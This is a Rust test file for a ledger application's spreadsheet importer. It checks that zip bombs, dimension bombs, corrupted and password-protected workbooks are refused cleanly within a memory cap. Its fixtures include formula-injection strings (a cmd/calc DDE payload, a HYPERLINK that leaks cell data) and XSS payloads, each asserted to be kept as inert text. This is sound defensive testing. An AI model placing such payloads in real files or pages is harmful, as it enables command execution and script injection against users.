//! The hostile-file corpus (tests/fixtures/hostile/, written by its generate.py): every file is refused with one
//! clear message or read correctly, by a process whose address space is capped, and a refused file leaves the
//! database byte for byte as it was.

use daicho::import::plan_file;
use serde_json::Value;

#[cfg(unix)]
use crate::support::{Launch, describe};
use crate::support::{TestDir, fixture, fy2024};

/// What each file must give: `Err(start of the one message)` for a file refused as a whole, `Ok(check)` for a file
/// that is read, with a check of what was read.
type Expect = Result<fn(&Value), &'static str>;

fn cases() -> Vec<(&'static str, Expect)> {
    vec![
        (
            "zip_bomb.xlsx",
            Err(
                "ファイルが大きすぎるため読み込みません: ファイルの中の「xl/media/image1.bin」は展開すると 512 MB になります（上限 32 MB）",
            ),
        ),
        // The directory says the 527 KB part expands to 1,000 bytes: impossible for deflate, so the directory lies.
        // (A subtler liar is stopped by the zip reader at the declared size, which the guard has checked.)
        ("zip_bomb_lying.xlsx", Err("ファイルが壊れているか、途中までしかありません")),
        (
            "shared_strings_billions.xlsx",
            Err("ファイルが大きすぎるため読み込みません: 共有文字列が 4000000000 個あると宣言されています"),
        ),
        (
            "xfd_cell.xlsx",
            Err("シート「回答」のセル XFD1048576 に値があり、読み込める範囲（A〜ALL列の1000列・100000行まで）"),
        ),
        ("ten_thousand_columns.xlsx", Err("シート「回答」のセル ALM1 に値があり")),
        ("truncated_zip.xlsx", Err("ファイルが壊れているか、途中までしかありません")),
        ("zero_byte.xlsx", Err("空のファイルです（0バイト）")),
        ("png_renamed.xlsx", Err("Excel のブック（.xlsx/.xlsm/.xls/.ods）ではありません")),
        ("password.xlsx", Err("パスワードで保護されたブックは読み込めません")),
        ("xls_broken_fat.xls", Err("ファイルが壊れているか、途中までしかありません")),
        ("xls_dimensions_bomb.xls", Err("シート「1枚目のシート」のセル IV1000000 に値があり")),
        ("ods_repeat_bomb.ods", Err("シート「回答」のセル XFD1048576 に値があり")),
        (
            "date_1904.xlsx",
            Ok(|r| {
                // Read with the 1900 epoch these would be 2028-04-02 and 2028-07-02.
                assert_eq!(
                    [after(r, 0, "運用開始日"), after(r, 1, "運用開始日")],
                    ["令和6年4月1日", "令和6年7月1日"],
                    "1904-based serials, formatted as dates or plain numbers, are read with the 1904 epoch"
                );
            }),
        ),
        (
            "control_characters.xlsx",
            Ok(|r| {
                assert_eq!(
                    after(r, 0, "業務名"),
                    "保育料の計算",
                    "_x0000_ and _x0007_ decode to control characters, dropped"
                );
                assert_eq!(after(r, 0, "備考"), "1行目 2行目[31m", "a line break becomes a space; ESC is dropped");
            }),
        ),
        (
            "formula_injection.xlsx",
            Ok(|r| {
                assert_eq!(r["rows"].as_array().unwrap().len(), 4);
                assert_eq!(
                    after(r, 0, "業務名"),
                    "=HYPERLINK(\"http://example.com/?\"&A1,\"詳細\")",
                    "kept as the text it is (the CSV export neutralises it)"
                );
                assert_eq!(after(r, 3, "業務名"), "@SUM(1+1)*cmd|' /C calc'!A0");
            }),
        ),
        (
            "xss.xlsx",
            Ok(|r| {
                assert_eq!(
                    after(r, 0, "業務名"),
                    "<img src=x onerror=\"window.__xss='img'\">",
                    "markup is text to the ledger"
                );
                assert_eq!(after(r, 1, "業務名"), "<script>window.__xss='script'</script>");
                assert_eq!(after(r, 2, "ツール"), "<iframe src=\"javascript:window.__xss=1\">");
            }),
        ),
        (
            "long_strings.xlsx",
            Ok(|r| {
                let errors = r["errors"].as_array().unwrap();
                assert_eq!(errors.len(), 2, "業務名 and 備考 are each too long: {errors:?}");
                assert_eq!(errors[0]["message"], "100000文字あります。200文字以内にしてください");
                let quoted = errors[0]["original"].as_str().unwrap();
                assert!(
                    quoted.chars().count() < 120 && quoted.ends_with("…（全100000文字）"),
                    "the report quotes, not copies: {quoted}"
                );
            }),
        ),
    ]
}

/// The new value of `field` in the report's `row`-th row (as the dry run shows it).
fn after(report: &Value, row: usize, field: &str) -> String {
    let changes = report["rows"][row]["changes"].as_array().unwrap_or_else(|| panic!("row {row} in {report}"));
    let change = changes.iter().find(|c| c["field"] == field).unwrap_or_else(|| panic!("{field} in {changes:?}"));
    change["after"].as_str().unwrap().to_string()
}

#[cfg(unix)]
fn sha(path: &std::path::Path) -> String {
    daicho::import::content_hash(&std::fs::read(path).unwrap())
}

#[test]
fn every_hostile_file_is_refused_cleanly_or_read_correctly() {
    let dir = fixture("hostile");
    let mut on_disk: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .filter(|n| !n.ends_with(".py") && !n.ends_with(".json"))
        .collect();
    on_disk.sort();
    let cases = cases();
    let mut named: Vec<String> = cases.iter().map(|(n, _)| n.to_string()).collect();
    named.sort();
    assert_eq!(on_disk, named, "every file of the corpus has its expectation here, and every expectation its file");

    let t = TestDir::seeded();
    let store = t.store();
    for (name, expect) in cases {
        let bytes = std::fs::read(dir.join(name)).unwrap();
        let report = plan_file(&store, name, &bytes, &fy2024()).unwrap();
        let json = serde_json::to_value(&report).unwrap();
        match expect {
            Err(message) => {
                assert_eq!(report.errors.len(), 1, "{name}: one problem with the file as a whole: {:?}", report.errors);
                let got = report.errors[0].to_string();
                assert!(got.starts_with(&format!("{name}: {message}")), "{name}: got {got}");
                assert!(report.rows.is_empty(), "{name}: nothing read from a refused file");
            }
            Ok(check) => check(&json),
        }
    }
}

/// The CLI imports each file in a child process limited to 1 GiB of address space (a dense grid for a hostile file
/// would ask for tens of gigabytes and abort); a refused file exits with 2 and leaves the database file unchanged.
// Unix only: the cap is `ulimit -v` through `sh`, which Windows has no equivalent of; the same corpus is read in
// process on every OS (the tests above).
#[cfg(unix)]
#[test]
fn the_cli_refuses_each_hostile_file_within_a_memory_cap_and_writes_nothing() {
    if crate::support::on_server("compares the ledger file byte for byte") {
        return;
    }
    let t = TestDir::seeded();
    for (name, expect) in cases() {
        let Err(message) = expect else { continue };
        let before = sha(&t.db());
        let path = fixture("hostile").join(name);
        let out = t.capped_command(1 << 20).arg("--db").arg(t.db()).arg("import").arg(&path).launch();
        assert_eq!(out.status.code(), Some(2), "{name}: refused as a validation error:\n{}", describe(&out));
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(stdout.contains(message), "{name}: the message is shown:\n{}", describe(&out));
        assert_eq!(sha(&t.db()), before, "{name}: a refused file changes nothing in the database");
    }
}

/// Workbooks the fuzzer found (tests/fixtures/fuzz/workbook, kept as they were found), each read by the CLI under
/// the same 1 GiB cap: refused or read, never a crash or an allocation beyond the cap. Unix only, as above.
#[cfg(unix)]
#[test]
fn fuzz_findings_are_refused_or_read_within_the_memory_cap() {
    let t = TestDir::new();
    let dir = fixture("fuzz/workbook");
    let mut seen = 0;
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        seen += 1;
        let out = t.capped_command(1 << 20).arg("--db").arg(t.db()).args(["import", "--dry-run"]).arg(&path).launch();
        assert!(matches!(out.status.code(), Some(0 | 2)), "{path:?}: a clean result, not a crash:\n{}", describe(&out));
    }
    assert!(seen > 0, "the findings folder is read");
}
